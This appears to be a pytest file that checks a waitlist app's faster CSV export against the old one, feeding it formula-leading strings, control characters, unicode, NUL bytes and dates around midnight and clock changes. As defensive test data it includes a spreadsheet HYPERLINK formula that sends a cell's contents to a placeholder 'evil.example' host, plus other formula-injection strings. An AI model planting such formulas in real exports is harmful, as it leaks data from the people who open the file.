"""The export's cells for awkward values: formula starts, unicode, missing values,
dates near midnight and across daylight saving, unknown codes, numbers.

The expected file was written by the export before it was made faster (issue 13);
the new one must give the same bytes for the same data."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from intake import clock as app_clock
from intake.auth.scope import EVERYTHING
from intake.extensions import db
from intake.models import ApplicationWindow
from intake.waitlist import export
from intake.waitlist.queries import Filters
from tests.waitlist import old_export


def tricky(add, programs):
    """Applications whose every text column tries something."""
    program = programs["introductory"]
    program.name = "=Program name"
    window = ApplicationWindow(
        program=program,
        name="+Spring cycle",
        opens_at=datetime(2026, 1, 1, tzinfo=UTC),
        closes_at=datetime(2026, 6, 1, tzinfo=UTC),
        created_at=datetime(2026, 1, 1, tzinfo=UTC),
    )
    db.session.add(window)
    made = [
        add(
            '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
            email="=evil@example.org",
            phone="+1 206 555 0100",
            organisation="@SUM(1+1)",
            access_needs_other="-2+3",
            reference="AAAA-AAAA",
            priority=-1,
            commit=False,
        ),
        add(
            "\tTabbed",
            email="tab@example.org",
            organisation="\rReturn",
            access_needs=("captions", "asl_interpreter"),
            access_needs_other="=1+1",
            reference="BBBB-BBBB",
            commit=False,
        ),
        add(
            "Ünïcödé 王小明 \uff1d全角 \u200b=zero width",
            email="unicode@example.org",
            agency_name="-Minus Agency",
            organisation="ignored when an agency",
            seats=6,
            languages=("cmn", "es", "asl", "xx"),
            availability=("weekend", "-odd", "weekday_morning"),
            access_needs=("unknown_need",),
            reference="CCCC-CCCC",
            commit=False,
        ),
        add(
            'Say "hi", then\nleave,\r\nx',
            email=" spaced@example.org",
            phone=" =not a formula",
            organisation="'already quoted",
            status="needs_review",
            joined_days_ago=None,
            languages=(),
            availability=(),
            reference="DDDD-DDDD",
            commit=False,
        ),
        add(
            "-",
            email="@",
            phone="",
            organisation="",
            access_needs_other="",
            status="withdrawn",
            priority=7,
            reference="EEEE-EEEE",
            commit=False,
        ),
    ]
    made[0].window = window
    made[0].applicant.entered_via = "phone"
    made[1].applicant.entered_via = "paper"
    # Minutes either side of midnight in Seattle, and either side of the clocks
    # changing (8 March 2026 and 2 November 2025).
    made[0].joined_at = datetime(2026, 3, 2, 7, 59, tzinfo=UTC)  # 23:59 on 1 March
    made[1].joined_at = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)  # 00:00 on 2 March
    made[2].joined_at = datetime(2025, 11, 2, 6, 59, tzinfo=UTC)  # 23:59 PDT on 1 Nov
    made[4].joined_at = datetime(2025, 11, 2, 8, 30, tzinfo=UTC)  # 00:30 PST on 2 Nov
    db.session.commit()


def test_the_same_bytes_as_before(app, add, programs):
    tricky(add, programs)
    with app.test_request_context():
        now = app_clock.now()
        stmt = export.export_query(Filters(status="all", sort="name"), scope=EVERYTHING)
        new = "".join(export.csv_chunks(stmt, now))
        old = "".join(old_export.csv_chunks(stmt, now))
    assert new == old
    assert new.count("'") > 10


def test_nul_characters(app, add, programs):
    if db.engine.dialect.name == "postgresql":
        pytest.skip("PostgreSQL refuses NUL in text")
    add("A\x00B", email="nul@example.org", organisation="\x00=1", reference="FFFF-FFFF")
    with app.test_request_context():
        now = app_clock.now()
        stmt = export.export_query(Filters(status="all"), scope=EVERYTHING)
        new = "".join(export.csv_chunks(stmt, now))
        old = "".join(old_export.csv_chunks(stmt, now))
    assert new == old
